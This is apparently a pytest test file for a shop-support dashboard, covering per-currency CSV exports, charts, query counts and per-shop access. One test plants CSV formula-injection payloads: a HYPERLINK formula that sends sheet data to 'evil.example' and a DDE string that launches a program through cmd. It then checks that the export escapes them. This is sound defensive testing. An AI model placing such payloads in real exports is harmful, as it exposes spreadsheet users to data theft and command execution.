"""The owners' dashboard: its charts and their CSV, never adding euros and kronor."""

import csv
import io
from decimal import Decimal

import pytest

from cases.choices import ClaimType
from claims import services as claims
from desk import dashboard
from tests.factories import (
    NAPKINS,
    accept_return,
    make_claim,
    make_claim_cases,
    make_order,
    make_return,
    return_line,
    track,
)

pytestmark = pytest.mark.django_db


LAKAN = {"sku": "LAK-240-270", "title": "Lakan i linne", "unit_price": "1195.00", "unit_weight_g": 1100}
DUK = {"sku": "DUK-150-250", "title": "Linneduk", "unit_price": "995.00", "unit_weight_g": 950}
DAMAST = {"sku": "TD-DAM-160", "title": "Damast-Tischdecke", "unit_price": "129.90", "unit_weight_g": 1350}


def refunded(shop, line, quantity, *, number, claim_type=ClaimType.DAMAGED):
    order = make_order(shop, number=number, lines=[dict(line, quantity=quantity)], shipping_total="0")
    track(order, "delivered", days_ago=2)
    case = make_claim(order, claim_type).case
    claims.claim_resolve(case=case, action="refund", reason="Beschädigt angekommen.")
    return case


def csv_rows(client, key, shop=None):
    url = f"/desk/dashboard/{key}.csv" + (f"?shop={shop.slug}" if shop else "")
    return list(csv.reader(io.StringIO(client.get(url).content.decode())))


def test_dashboard_shows_loss_rates_and_exports_csv(client, owner, shop, carrier):
    make_claim_cases(shop, 2, ClaimType.DELIVERED_NOT_RECEIVED)
    client.force_login(owner)
    assert client.get("/desk/dashboard/").status_code == 200
    loss = client.get("/desk/dashboard/loss.csv").content.decode()
    assert loss.splitlines()[0].startswith("Carrier,Order value,Signature")
    assert "DHL" in loss


def test_money_per_month_keeps_kronor_and_euros_apart(client, owner, shop, swedish_shop, carrier, grant):
    grant(owner, swedish_shop)
    refunded(swedish_shop, LAKAN, 1, number="LS-1")
    refunded(shop, DAMAST, 2, number="LL-1")
    client.force_login(owner)

    header, *rows = csv_rows(client, "money")

    assert header == ["Month", "Refunded", "Reshipped", "Recovered", "Chargebacks lost", "Currency"]
    assert sorted((row[1], row[5]) for row in rows) == [("1195.00", "SEK"), ("259.80", "EUR")]
    assert not any("1454.80" in row for row in rows)


def test_claims_by_carrier_sum_their_cost_per_currency(client, owner, shop, swedish_shop, carrier, grant):
    grant(owner, swedish_shop)
    refunded(swedish_shop, LAKAN, 1, number="LS-1")
    refunded(shop, DAMAST, 2, number="LL-1")
    refunded(shop, DAMAST, 1, number="LL-2")
    client.force_login(owner)

    header, *rows = csv_rows(client, "claims")

    assert header == ["Carrier", "Type", "Claims", "Cost", "Currency"]
    assert sorted(rows) == [
        ["DHL", "Damaged", "1", "1195.00", "SEK"],
        ["DHL", "Damaged", "2", "389.70", "EUR"],
    ]


def test_swedish_orders_fall_into_bands_of_kronor(client, owner, shop, swedish_shop, carrier, grant):
    grant(owner, swedish_shop)
    make_order(swedish_shop, number="LS-1", lines=[dict(DUK, quantity=1)], shipping_total="0")
    make_order(swedish_shop, number="LS-2", lines=[dict(LAKAN, quantity=3)], shipping_total="0")
    make_order(shop, number="LL-1", lines=[dict(DAMAST, quantity=1)], shipping_total="0")
    client.force_login(owner)

    _header, *rows = csv_rows(client, "loss")

    assert {row[1] for row in rows} == {"50–250 EUR", "500–2500 SEK", "2500+ SEK"}


def test_a_currency_without_a_factor_gets_the_euro_bands():
    assert dashboard.value_bands("SEK") == [
        (Decimal("0"), Decimal("500")),
        (Decimal("500"), Decimal("2500")),
        (Decimal("2500"), None),
    ]
    assert dashboard.value_bands("CHF") == dashboard.value_bands("EUR") == dashboard.VALUE_BANDS


def test_returns_cost_per_product_says_its_currency(client, owner, swedish_shop, carrier, grant):
    grant(owner, swedish_shop)
    order = make_order(swedish_shop, number="LS-1", lines=[dict(DUK, quantity=1)], shipping_total="0")
    track(order, "delivered", days_ago=3)
    accept_return(make_return(order, return_line(order, DUK["sku"], reason="too_small")))
    client.force_login(owner)

    header, *rows = csv_rows(client, "returns_cost")

    assert header[-2:] == ["Value", "Currency"]
    assert rows == [["Linnestugan", "DUK-150-250", "Linneduk", "1", "995.00", "SEK"]]


def test_dashboard_shows_what_returns_cost_per_product(client, owner, shop, carrier):
    order = make_order(shop, lines=[dict(NAPKINS, quantity=2)])
    track(order, "delivered", days_ago=3)
    accept_return(make_return(order, return_line(order, quantity=2, reason="too_small")))
    client.force_login(owner)

    rows = csv_rows(client, "returns_cost")

    assert rows[1][1:] == [NAPKINS["sku"], NAPKINS["title"], "2", "49.80", "EUR"]


def test_a_product_named_like_a_formula_is_text_in_the_csv(client, owner, shop, carrier):
    # A shop system (or whoever can write into it) names a product so that opening the
    # export in a spreadsheet sends the sheet away or starts a program.
    hyperlink = '=HYPERLINK("http://evil.example/?d="&A1,"x")'
    product = dict(NAPKINS, sku="+cmd|' /C calc'!A0", title=hyperlink)
    order = make_order(shop, lines=[dict(product, quantity=2)])
    track(order, "delivered", days_ago=3)
    accept_return(make_return(order, return_line(order, product["sku"], quantity=2, reason="too_small")))
    client.force_login(owner)

    [_header, row] = csv_rows(client, "returns_cost")

    assert row[1:3] == ["'+cmd|' /C calc'!A0", "'" + hyperlink]
    assert row[3:5] == ["2", "49.80"]  # numbers are still numbers


def test_bars_are_scaled_within_each_currency():
    chart = dashboard.Chart(
        "money",
        "Money",
        ["Month", "Refunded", "Currency"],
        [
            ["2025-06", Decimal("100.00"), "EUR"],
            ["2025-06", Decimal("1000.00"), "SEK"],
            ["2025-07", 0, "SEK"],
        ],
        value_column=1,
        scale_column=2,
    )

    assert [width for _row, _value, width in chart.bars] == ["100.0", "100.0", "0.0"]


@pytest.mark.parametrize("currencies", [1, 2])
def test_dashboard_runs_the_same_queries_for_one_and_two_currencies(
    client, owner, shop, swedish_shop, carrier, currencies, grant, django_assert_num_queries
):
    grant(owner, swedish_shop)
    refunded(shop, DAMAST, 1, number="LL-1")
    if currencies == 2:
        refunded(swedish_shop, LAKAN, 1, number="LS-1")
    client.force_login(owner)
    client.get("/desk/dashboard/?shop=")
    # session, user, the authenticator the owner's login was confirmed with (django-otp), the ids of
    # the owner's shops; the owner's shops (the menu, and the charts' filter); open cases by age;
    # first-response breaches (2: late answers of 30 days, first answers overdue now); claims by carrier; one per value band (3); refunds, reshipments,
    # recoveries and lost chargebacks per month (4); resolution times; five queries per shop for
    # return rates (2 shops); returns cost per product.
    with django_assert_num_queries(28):
        response = client.get("/desk/dashboard/")
    assert response.status_code == 200


def test_another_shops_agent_downloads_only_their_own_shops_figures(
    client, swedish_agent, shop, swedish_shop, carrier
):
    refunded(shop, DAMAST, 2, number="LL-1")
    refunded(swedish_shop, LAKAN, 1, number="LS-1")
    client.force_login(swedish_agent)

    _header, *rows = csv_rows(client, "money")
    leinen_only = client.get(f"/desk/dashboard/money.csv?shop={shop.slug}")
    page = client.get("/desk/dashboard/").content.decode()

    assert [row[-1] for row in rows] == ["SEK"]
    assert leinen_only.status_code == 404
    assert "Leinen" not in page and "259.80" not in page


def test_a_lost_chargeback_counts_its_amount_and_fee_in_the_money_chart(client, owner, shop, carrier):
    order = make_order(shop, total="65.70")
    dispute = make_claim(
        order,
        "chargeback",
        dispute=claims.DisputeIn(provider="stripe", reference="dp_9", amount=Decimal("65.70")),
    )
    claims.claim_dispute_settle(claim=dispute, outcome="lost", fee=Decimal("15.00"))
    client.force_login(owner)

    header, *rows = csv_rows(client, "money")

    [row] = rows
    assert row[header.index("Chargebacks lost")] == "80.70"
    assert row[header.index("Currency")] == "EUR"
